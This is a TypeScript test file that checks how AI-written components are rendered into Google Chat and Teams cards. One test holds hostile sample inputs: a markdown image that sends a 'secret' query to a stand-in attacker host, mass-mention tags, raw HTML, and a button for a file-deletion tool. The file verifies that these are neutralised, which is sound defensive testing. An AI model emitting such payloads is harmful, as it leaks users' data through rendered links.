import { describe, expect, test } from 'vitest'
import { describeComponents } from '../src/components/describe.ts'
import { componentSchemas } from '../src/components/schemas.ts'
import type { Component } from '../src/contract/component-schema.ts'
import { chatBlocks } from '../src/platform/correspondence/cards/chat-blocks.ts'
import { officeReply } from '../src/features/webhooks/office-chat/office-reply.ts'
import { workspaceReply } from '../src/features/webhooks/workspace-chat/workspace-reply.ts'

const blocks = async (components: readonly Component[]) => {
  const context = { fetched: () => undefined, now: new Date(), isShared: true, locale: 'en' }
  return chatBlocks((await describeComponents(components, context)).flat())
}
const inWorkspace = async (...components: Component[]) => workspaceReply(await blocks(components), 'classic')
const inOffice = async (...components: Component[]) => officeReply(await blocks(components))

const figures: Component = {
  type: 'table',
  caption: 'Top processes',
  columns: [
    { key: 'name', label: 'Process' },
    { key: 'cpu', label: 'CPU', type: 'percent', decimals: 1 },
    { key: 'memory', label: 'Memory', type: 'bytes' },
  ],
  rows: [
    { name: 'node <b>', cpu: 12.5, memory: 104_857_600 },
    { name: 'chromium', cpu: 3.1, memory: null },
  ],
  total_rows: 40,
}

describe.each(componentSchemas.map(({ type, example }) => ({ type, example })))(
  '$type',
  ({ type, example }) => {
    test('is told in both chats by its own example', async () => {
      const component = { type, ...example } as Component
      const told = [await inWorkspace(component), await inOffice(component)]
      for (const reply of told) {
        expect(Buffer.byteLength(JSON.stringify(reply))).toBeLessThan(28_000)
        const words = [reply['text'], reply['cardsV2'], reply['attachments']].filter(Boolean)
        // A line alone says nothing.
        if (type !== 'divider') expect(words).not.toEqual([])
        expect(JSON.stringify(words)).not.toMatch(/undefined|\[object|NaN/)
      }
    })
  },
)

test('a table becomes labelled rows in Google Chat and columns in Teams, its cells written as declared', async () => {
  expect(await inWorkspace({ type: 'text', text: 'Look:' }, figures)).toEqual({
    text: 'Look:',
    cardsV2: [
      {
        cardId: 'answer',
        card: {
          sections: [
            {
              header: 'Top processes',
              widgets: [
                {
                  decoratedText: {
                    topLabel: 'node <b>',
                    text: 'CPU <b>12.5 %</b> · Memory <b>105 MB</b>',
                    wrapText: true,
                  },
                },
                {
                  decoratedText: {
                    topLabel: 'chromium',
                    text: 'CPU <b>3.1 %</b> · Memory <b>–</b>',
                    wrapText: true,
                  },
                },
                { textParagraph: { text: '… and 38 more' } },
              ],
            },
          ],
        },
      },
    ],
  })
  const [{ contentType, content }] = (await inOffice(figures))['attachments'] as [
    { contentType: string; content: { body: { type: string; columns?: object[] }[] } },
  ]
  expect(contentType).toBe('application/vnd.microsoft.card.adaptive')
  expect(content.body.map(({ type }) => type)).toEqual([
    'TextBlock',
    'ColumnSet',
    'ColumnSet',
    'ColumnSet',
    'TextBlock',
  ])
  expect(content.body[2]!.columns).toMatchObject([
    { items: [{ text: 'node <b>' }] },
    { items: [{ text: '12.5 %' }] },
    { items: [{ text: '105 MB' }] },
  ])
})

test('facts become facts, also inside cards and grids', async () => {
  const inner: Component = { type: 'metric', label: 'Visits', value: 1284, change: 12.5, change_unit: '%' }
  const card: Component = { type: 'card', title: 'Today', children: [{ type: 'grid', children: [inner] }] }
  expect((await inOffice(card))['attachments']).toMatchObject([
    {
      content: {
        body: [
          { type: 'TextBlock', text: 'Today', weight: 'bolder' },
          { type: 'FactSet', facts: [{ title: 'Visits', value: '1,284 (+12.5 %)' }] },
        ],
      },
    },
  ])
})

test('Markdown is written in the way of each chat', async () => {
  const text = '## Title\nA **bold** word, a [link](https://example.org/a?b=1&c=2) and `x < y`.'
  const said: Component = { type: 'text', text, format: 'markdown' }
  expect(await inWorkspace(said)).toEqual({
    text: '*Title*\nA *bold* word, a <https://example.org/a?b=1&c=2|link> and `x < y`.',
  })
  expect(await inOffice(said)).toMatchObject({
    text: '**Title**\nA **bold** word, a [link](https://example.org/a?b=1&c=2) and `x < y`.',
  })
  const [{ card }] = (await inWorkspace({ type: 'gauge', label: 'CPU', value: 3 }, said))['cardsV2'] as [
    { card: { sections: { widgets: object[] }[] } },
  ]
  expect(card.sections[0]!.widgets[1]).toEqual({
    textParagraph: {
      text: '<b>Title</b><br>A <b>bold</b> word, a <a href="https://example.org/a?b=1&amp;c=2">link</a> and x &lt; y.',
    },
  })
})

test('nothing that a model writes calls people, loads pictures or becomes HTML', async () => {
  const bad =
    'Hey <users/all>, <USERS/1> ![p](https://evil.example.org/?q=secret) ![q](<https://evil.example.org/>) <img src=x>' +
    ' `<users/all>` **<users/all>** [<users/all>](https://example.org)'
  const text = String((await inWorkspace({ type: 'text', text: bad }))['text'])
  expect(text).not.toMatch(/<users\//i)
  expect(text).toContain('<https://evil.example.org/?q=secret|p>')
  const office = String((await inOffice({ type: 'text', text: bad }))['text'])
  expect(office).not.toMatch(/!\[/)
  expect(office).not.toMatch(/<img/)
  const picture: Component = { type: 'image', url: 'https://evil.example.org/x.png', alt: 'A picture' }
  expect(await inWorkspace(picture)).toEqual({ text: '<https://evil.example.org/x.png|A picture>' })
  expect(JSON.stringify(await inOffice(figures, picture))).not.toContain('"Image"')
  const fact: Component = {
    type: 'key_value',
    items: [{ label: 'x', value: '<a href="https://e.org">y</a>' }],
  }
  expect(JSON.stringify(await inWorkspace(fact))).not.toContain('<a href')
})

test('buttons become links or words, and what they would run is left out', async () => {
  const open: Component = {
    type: 'button',
    label: 'Map',
    action: { kind: 'open', url: 'https://example.org/' },
  }
  const ask: Component = { type: 'button', label: 'Forecast', action: { kind: 'chat', message: 'Weather' } }
  const run: Component = { type: 'button', label: 'Go', action: { kind: 'tool', tool_name: 'DELETE_FILE' } }
  expect(await inOffice(open, ask, run)).toMatchObject({
    text: '[Map](https://example.org/)\n\nForecast: say “Weather”',
  })
})

test('an answer that is too long for the chat is cut, and says where the rest is', async () => {
  const long: Component[] = Array.from({ length: 40 }, (_, index) => ({
    type: 'key_value',
    title: `Part ${index}`,
    items: [{ label: 'text', value: 'ä'.repeat(1_500) }],
  }))
  for (const reply of [await inWorkspace(...long), await inOffice(...long)]) {
    const json = JSON.stringify(reply)
    expect(Buffer.byteLength(json)).toBeLessThanOrEqual(28_000)
    expect(json).toContain('Part 3')
    expect(json).not.toContain('Part 39')
    expect(json).toContain('… See the rest in Deskhand on your computer.')
  }
  const text: Component = { type: 'text', text: 'word '.repeat(10_000) }
  expect(String((await inWorkspace(text))['text']).length).toBeLessThan(4_000)
})

test('patterns do not stand still on hostile text', async () => {
  for (const piece of ['**a', '[', '![', '`', '```', '[a](http://', '# '])
    expect((await inOffice({ type: 'text', text: piece.repeat(20_000) }))['text']).toBeTypeOf('string')
})
